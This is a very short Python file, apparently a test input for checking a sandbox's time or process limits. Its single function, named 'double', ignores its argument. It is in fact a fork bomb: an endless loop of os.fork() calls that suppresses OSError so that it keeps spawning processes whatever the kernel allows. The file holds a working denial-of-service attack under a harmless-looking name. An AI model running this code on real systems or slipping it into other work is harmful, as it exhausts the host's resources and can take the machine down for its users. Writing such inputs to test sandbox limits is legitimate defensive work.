"""time-limit: forks for ever, whatever the kernel says."""
import os


def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
